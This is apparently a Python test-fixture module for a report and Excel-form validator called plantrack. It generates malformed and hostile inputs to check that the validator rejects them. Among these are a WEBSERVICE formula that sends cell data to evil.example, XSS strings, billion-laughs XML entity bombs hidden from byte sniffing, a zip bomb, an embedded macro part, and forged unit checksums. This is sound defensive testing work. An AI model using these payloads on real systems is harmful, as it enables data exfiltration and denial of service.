"""Cases made at test time: files too big to commit, links and pipes git cannot hold.

Each generator takes the repository copy and the target path (already holding the valid
trimmed report) and breaks it in place.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from plantrack.io.limits import DEFAULT_LIMITS
from tests.hardening.corpus import CASES_DIR

VALID = CASES_DIR / "valid-trimmed-report.yaml"
FIFTY_MB = 50 * 1024 * 1024
MEGABYTE_STRING = 1_000_000


def megabyte_string(root: Path, target: Path) -> None:
    """The report number is a string of a million characters (line 5, column 9)."""
    text = VALID.read_text("utf-8")
    target.write_text(
        text.replace("number: 249/BC-UBND", "number: " + "x" * MEGABYTE_STRING), "utf-8"
    )


def worst_case_under_the_limits(root: Path, target: Path) -> None:
    """The costliest file every limit allows: the report number is a flow list of
    one-character items filling the file to exactly ``max_file_bytes`` (line 5, column 9)."""
    head, rest = VALID.read_bytes().split(b"number: 249/BC-UBND", 1)
    room = DEFAULT_LIMITS.max_file_bytes - len(head) - len(rest) - len(b"number: [1]")
    items = b"1," * (room // 2) + b" " * (room % 2)
    target.write_bytes(head + b"number: [" + items + b"1]" + rest)
    assert target.stat().st_size == DEFAULT_LIMITS.max_file_bytes


def fifty_megabytes(root: Path, target: Path) -> None:
    """A valid report padded to 50 MB: sparse, so it costs no disk and no time to make."""
    target.write_bytes(VALID.read_bytes())
    with target.open("r+b") as handle:
        handle.truncate(FIFTY_MB)


def symlink_outside(root: Path, target: Path) -> None:
    """The report is a link to a (valid) file outside the repository."""
    outside = root.parent / "outside" / "xa-tra-mai.yaml"
    outside.parent.mkdir()
    outside.write_bytes(VALID.read_bytes())
    target.unlink()
    target.symlink_to(outside)


def symlink_loop(root: Path, target: Path) -> None:
    """The report is a link to itself."""
    target.unlink()
    target.symlink_to(target.name)


def fifo(root: Path, target: Path) -> None:
    """A named pipe where the report should be: opening it for reading would wait forever."""
    target.unlink()
    os.mkfifo(target)


def yml_extension(root: Path, target: Path) -> None:
    """The report saved as ``.yml``."""
    target.rename(target.with_suffix(".yml"))


# --- Excel forms: xa-tra-don's 2024-Q3 form of the mini repository, then damaged -------------
# "Nhiệm vụ" lists t1 on row 5 and t2 on row 6: E state, F completion date, G progress,
# I results. Forms are made by plantrack's own exporter, so they follow its current layout.

TASKS = "Nhiệm vụ"


def _form(root: Path) -> bytes:
    from plantrack.forms.export import make_form
    from plantrack.validate.require import require_plan as open_repository

    data, findings = make_form(open_repository(root), "xa-tra-don", "2024-Q3")
    assert data is not None, findings
    return data


def _edited(root: Path, target: Path, change: Callable[[Any], None]) -> None:
    """The form with ``change`` applied to the workbook by openpyxl, as a user's Excel would."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(_form(root)))
    change(book)
    book.save(target)


def _cells(**values: Any) -> Callable[[Any], None]:
    def change(book: Any) -> None:
        for ref, value in values.items():
            book[TASKS][ref] = value

    return change


def _rezipped(data: bytes, edit: Callable[[str, bytes], bytes], extra: dict[str, bytes]) -> bytes:
    """The zip ``data`` with each entry passed through ``edit`` and ``extra`` entries added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            new.writestr(info, edit(info.filename, old.read(info.filename)))
        for name, payload in extra.items():
            new.writestr(name, payload)
    return out.getvalue()


def _tasks_part(data: bytes) -> str:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data), read_only=True)
    return f"xl/worksheets/sheet{book.sheetnames.index(TASKS) + 1}.xml"


def many_rows(root: Path, target: Path, *, last: int = 100_006, honest: bool) -> None:
    """Answer rows 7 to ``last`` under the tasks (column I), written straight into the sheet's
    XML; the declared ``<dimension>`` is updated, or left saying six rows."""
    data = _form(root)
    part = _tasks_part(data)
    rows = "".join(
        f'<row r="{n}"><c r="I{n}" t="inlineStr"><is><t>x</t></is></c></row>'
        for n in range(7, last + 1)
    ).encode()

    def edit(name: str, xml: bytes) -> bytes:
        if name != part:
            return xml
        xml = xml.replace(b"</sheetData>", rows + b"</sheetData>", 1)
        if honest:
            real = rb'<dimension ref="A1:\g<1>' + str(last).encode() + b'"'
            xml = re.sub(rb'<dimension ref="A1:([A-Z]+)\d+"', real, xml)
        return xml

    target.write_bytes(_rezipped(data, edit, {}))


def form_formula(root: Path, target: Path) -> None:
    _edited(root, target, _cells(G5="=50+50"))


def form_webservice_formula(root: Path, target: Path) -> None:
    _edited(root, target, _cells(I5='=WEBSERVICE("http://evil.example/?q="&A5)'))


def form_state_typed(root: Path, target: Path) -> None:
    _edited(root, target, _cells(E5="xong"))


def form_date_as_words(root: Path, target: Path) -> None:
    _edited(root, target, _cells(F5="mười tháng chín"))


def form_impossible_date(root: Path, target: Path) -> None:
    _edited(root, target, _cells(F5="31/02/2024"))


def form_progress_text(root: Path, target: Path) -> None:
    _edited(root, target, _cells(G5="nửa"))


def form_progress_over_100(root: Path, target: Path) -> None:
    _edited(root, target, _cells(G5=150))


def form_progress_5000_digits(root: Path, target: Path) -> None:
    """Progress typed as 5,000 digits: past Python's 4,300-digit int-to-text limit."""
    _edited(root, target, _cells(G5="9" * 5000))


def form_merged_cells(root: Path, target: Path) -> None:
    _edited(root, target, lambda book: book[TASKS].merge_cells("I5:I6"))


def form_hidden_row(root: Path, target: Path) -> None:
    def hide(book: Any) -> None:
        book[TASKS].row_dimensions[6].hidden = True

    _edited(root, target, hide)


def form_hostile_text(root: Path, target: Path) -> None:
    """Answers that would be markup or a formula elsewhere: plain text here, no finding."""
    _edited(root, target, _cells(I5="<script>alert(1)</script> | [x](javascript:alert(1))"))


def form_external_link(root: Path, target: Path) -> None:
    link = {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
    target.write_bytes(_rezipped(_form(root), lambda n, x: x, link))


def form_macro_inside(root: Path, target: Path) -> None:
    target.write_bytes(_rezipped(_form(root), lambda n, x: x, {"xl/vbaProject.bin": bytes(64)}))


def form_macro_name(root: Path, target: Path) -> None:
    """The form saved as a macro-enabled workbook (the table names it .xlsm)."""
    target.write_bytes(_form(root))


def form_dtd(root: Path, target: Path) -> None:
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>'

    def edit(name: str, xml: bytes) -> bytes:
        return bomb if name == "docProps/app.xml" else xml

    target.write_bytes(_rezipped(_form(root), edit, {}))


def _replacing(part: str, payload: bytes) -> Callable[[str, bytes], bytes]:
    return lambda name, xml: payload if name == part else xml


# an internal entity that expands ten-fold at each level: a billion laughs if expanded
_LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)


def form_dtd_after_4096_bytes(root: Path, target: Path) -> None:
    """The DTD after 5,000 bytes of leading whitespace and a comment (past any sniffing)."""
    late = b'<?xml version="1.0"?>' + b" " * 5000 + b"<!-- x -->" + _LAUGHS + b"<x>&d;</x>"
    target.write_bytes(_rezipped(_form(root), _replacing("docProps/app.xml", late), {}))


def form_dtd_utf16(root: Path, target: Path) -> None:
    """The DTD inside a UTF-16 part, where no ASCII byte search finds ``<!DOCTYPE``."""
    xml = '<?xml version="1.0" encoding="UTF-16"?>' + _LAUGHS.decode() + "<x>&d;</x>"
    part = xml.encode("utf-16")
    target.write_bytes(_rezipped(_form(root), _replacing("docProps/core.xml", part), {}))


def form_dtd_in_unknown_part(root: Path, target: Path) -> None:
    """A DTD in a part plantrack does not know, under a name that does not end in .xml."""
    extra = {"customXml/item1.dat": b'<?xml version="1.0"?>' + _LAUGHS + b"<x>&d;</x>"}
    target.write_bytes(_rezipped(_form(root), lambda n, x: x, extra))


def form_utf32_part(root: Path, target: Path) -> None:
    """A part in UTF-32, which expat cannot read but another parser could."""
    part = '<?xml version="1.0" encoding="UTF-32"?><x/>'.encode("utf-32-le")
    target.write_bytes(_rezipped(_form(root), _replacing("docProps/app.xml", part), {}))


def form_extra_hidden_sheet(root: Path, target: Path) -> None:
    """An extra (hidden) sheet plantrack does not read, with 300,000 tiny cells."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(_form(root)))
    extra = book.create_sheet("Nháp")
    extra.sheet_state = "hidden"
    extra["A1"] = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    part = f"xl/worksheets/sheet{len(book.sheetnames)}.xml"
    cells = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(2, 100_002)
    )

    def edit(name: str, xml: bytes) -> bytes:
        return xml.replace(b"</sheetData>", cells + b"</sheetData>", 1) if name == part else xml

    target.write_bytes(_rezipped(buffer.getvalue(), edit, {}))


def form_huge_shared_strings(root: Path, target: Path) -> None:
    """A shared-strings table of 10 MB (one long string) inside the unzip limit."""
    table = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
        + b"x" * (10 << 20)
        + b"</t></si></sst>"
    )
    extra = {"xl/sharedStrings.xml": table}
    target.write_bytes(_rezipped(_form(root), lambda n, x: x, extra))


def form_huge_attribute(root: Path, target: Path) -> None:
    """7 MB in one attribute of the styles: the slowest XML to parse, under the limit."""

    def edit(name: str, xml: bytes) -> bytes:
        if name != "xl/styles.xml":
            return xml
        return xml.replace(b"<styleSheet ", b'<styleSheet x="' + b"y" * (7 << 20) + b'" ', 1)

    target.write_bytes(_rezipped(_form(root), edit, {}))


def form_encrypted(root: Path, target: Path) -> None:
    """What Excel writes for a password-protected workbook: an OLE container holding the
    encrypted package (only the container's signature and stream name matter here)."""
    name = "EncryptedPackage".encode("utf-16-le")
    target.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024) + name + bytes(512))


def form_zip_bomb(root: Path, target: Path) -> None:
    """A 200 MB part of zeros, a few hundred KB once compressed."""
    target.write_bytes(
        _rezipped(_form(root), lambda n, x: x, {"xl/media/zeros.bin": bytes(200 << 20)})
    )


def form_100000_rows(root: Path, target: Path) -> None:
    many_rows(root, target, honest=True)


def form_100000_rows_hidden_size(root: Path, target: Path) -> None:
    many_rows(root, target, honest=False)


def form_yaml_renamed(root: Path, target: Path) -> None:
    target.write_bytes(VALID.read_bytes())


def form_old_xls(root: Path, target: Path) -> None:
    target.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024))


def _as_dzon(book: Any, *, visible: bool) -> None:
    """The hidden data rewritten for xa-tra-dzon with its checksum recomputed, as anyone can;
    with ``visible``, every place the unit sees names Trà Dơn too."""
    from plantrack.forms.content import meta_checksum
    from plantrack.forms.layout import META_KEYS, SHEET_META

    ws = book[SHEET_META]
    meta = {key: str(ws.cell(row=r, column=2).value or "") for r, key in enumerate(META_KEYS, 1)}
    meta["unit"] = "xa-tra-dzon"
    meta["checksum"] = meta_checksum(meta)
    for row, key in enumerate(META_KEYS, start=1):
        ws.cell(row=row, column=2).value = meta[key]
    if visible:
        for sheet in book.worksheets:
            for line in sheet.iter_rows(max_row=12, max_col=2):
                for cell in line:
                    if isinstance(cell.value, str) and "Trà Don" in cell.value:
                        text = cell.value.replace("Trà Don", "Trà Dơn")
                        cell.value = text.replace("(xa-tra-don)", "(xa-tra-dzon)")


def form_visible_unit_edited(root: Path, target: Path) -> None:
    """The general sheet's unit cell names another commune (one diacritic apart)."""
    _edited(
        root,
        target,
        lambda book: book["Thông tin chung"].__setitem__("B5", "UBND xã Trà Dơn (xa-tra-dzon)"),
    )


def form_hidden_unit_forged(root: Path, target: Path) -> None:
    _edited(root, target, lambda book: _as_dzon(book, visible=False))


def form_forged_everywhere(root: Path, target: Path) -> None:
    """Another unit's form in every way it shows, sent back under Trà Don's file name."""
    _edited(root, target, lambda book: _as_dzon(book, visible=True))


GENERATORS: dict[str, Callable[[Path, Path], None]] = {
    f.__name__: f
    for f in (
        megabyte_string,
        worst_case_under_the_limits,
        fifty_megabytes,
        symlink_outside,
        symlink_loop,
        fifo,
        yml_extension,
        form_formula,
        form_webservice_formula,
        form_state_typed,
        form_date_as_words,
        form_impossible_date,
        form_progress_text,
        form_progress_over_100,
        form_progress_5000_digits,
        form_merged_cells,
        form_hidden_row,
        form_hostile_text,
        form_external_link,
        form_macro_inside,
        form_macro_name,
        form_dtd,
        form_zip_bomb,
        form_100000_rows,
        form_100000_rows_hidden_size,
        form_yaml_renamed,
        form_old_xls,
        form_dtd_after_4096_bytes,
        form_dtd_utf16,
        form_dtd_in_unknown_part,
        form_utf32_part,
        form_extra_hidden_sheet,
        form_huge_shared_strings,
        form_huge_attribute,
        form_encrypted,
        form_visible_unit_edited,
        form_hidden_unit_forged,
        form_forged_everywhere,
    )
}
